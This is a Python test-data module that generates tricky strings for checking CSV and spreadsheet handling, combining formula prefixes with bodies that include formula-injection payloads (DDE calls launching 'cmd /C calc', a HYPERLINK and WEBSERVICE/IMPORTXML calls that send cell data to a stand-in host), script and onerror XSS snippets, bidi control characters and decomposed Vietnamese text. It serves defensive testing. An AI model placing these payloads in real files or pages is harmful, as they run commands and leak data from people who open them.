"""Texts that programs like to run, split or change: every beginning before every body."""

from __future__ import annotations

import unicodedata

PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\n", "'", '"', " =", ";", "＝", "%")
"""What makes a spreadsheet compute, and what makes a reader of CSV lose its place."""

BODIES = (
    "1+1",
    "SUM(1,2)*3",
    "cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"!A0")',
    'HYPERLINK("http://phuluc.invalid/?a="&A1;"Bấm vào đây")',
    'IMPORTXML("http://phuluc.invalid";"//a")',
    'WEBSERVICE("http://phuluc.invalid")',
    "<script>document.title='đã chạy'</script>",
    '"><img src=x onerror=alert(1)>',
    "]]></Data></w:t><!-- -->",
    "&amp;&#61;1&lt;br&gt;",
    '"hai" ""bốn"" \'sáu\'',
    "một;hai;ba,bốn|năm",
    "dòng một\ndòng hai\r\ndòng ba",
    "😀👍🏽 𠀀",
    "\u200fאבג\u202e ngược \u202c",
    "_x0041__x000D_ _x005F_",
    "dài " * 49 + "dài.",
    unicodedata.normalize("NFD", "Nguyễn Thị Hường ở Đắk Lắk"),
    "giữa\tcột  và cuối  ",
)

TEXTS = tuple(prefix + body for prefix in PREFIXES for body in BODIES)


def composed(text: str) -> str:
    """What reading gives back: Vietnamese letters in one piece."""
    return unicodedata.normalize("NFC", text)
